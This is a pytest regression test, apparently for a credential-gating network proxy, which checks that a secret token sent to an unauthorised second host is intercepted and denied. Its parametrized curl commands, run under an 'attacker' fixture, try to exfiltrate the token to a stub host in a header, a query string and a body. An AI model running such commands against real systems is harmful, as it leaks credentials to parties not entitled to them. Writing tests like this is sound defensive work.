"""Issue 13: no host is a blind tunnel while the policy has a credential.

A policy without `preset:default` (`irreversible: []`) gives a plain allowed host no
request-level rule; it used to be tunnelled, its TLS never terminated, so a placeholder (or an
echoed real value) inside went out unseen. With any credential in the policy, every HTTPS host
is intercepted (network.needs_interception): the placeholder sent to the second host by
header, query or body is denied before it leaves and the step is marked. The oracle is the
second server's own log of what it received. Runs as root: the gate's judgement does not depend on the step's uid."""

import json
import shutil

import pytest

from conftest import CANARY
from gatekit import hostport, netproject, servers

pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")


@pytest.mark.parametrize("send", [
    "curl -s -o /dev/null -H \"X-Note: $MY_TOKEN\" {url}/",                    # a header
    "curl -s -o /dev/null \"{url}/search?q=$MY_TOKEN\"",                       # the query
    "curl -s -o /dev/null --data-binary \"{{\\\"t\\\": \\\"$MY_TOKEN\\\"}}\" {url}/",  # the body
])
def test_the_placeholder_to_a_plainly_allowed_host_is_denied_without_the_preset(attacker, send):
    with servers() as (git, stub):
        attacker.env["MY_TOKEN"] = CANARY
        netproject(attacker, git, stub, "irreversible: []\n"
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hostport(git)}\"]\n")
        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
        assert ph and ph != CANARY
        url = f"https://{hostport(stub, 'stub.example.test')}"
        attacker.run("curl -s -o /dev/null " + url + "/hello")       # an ordinary request passes
        assert [q for q in stub.requests if q["path"] == "/hello"], stub.requests
        attacker.run(send.format(url=url))
        got = [q for q in stub.requests if ph in json.dumps({k: v for k, v in q.items() if k != "body"})
               or ph.encode() in q["body"]]
        assert not got, f"the second server received the placeholder: {got}"
        s = json.loads(attacker.envgit("log", "--json", check=True).stdout)[-1]
        assert "credential-misuse" in s["marks"], (s["marks"], s["requests"])
        bad = [q for q in s["requests"] if q.get("rule") == "credential-misuse"]
        assert bad and bad[0]["credential"] == "tok" and bad[0]["host"] == "stub.example.test"
        hello = json.loads(attacker.envgit("log", "--json", check=True).stdout)[-2]["requests"]
        assert hello and all(q.get("intercepted") for q in hello), hello    # not a tunnel
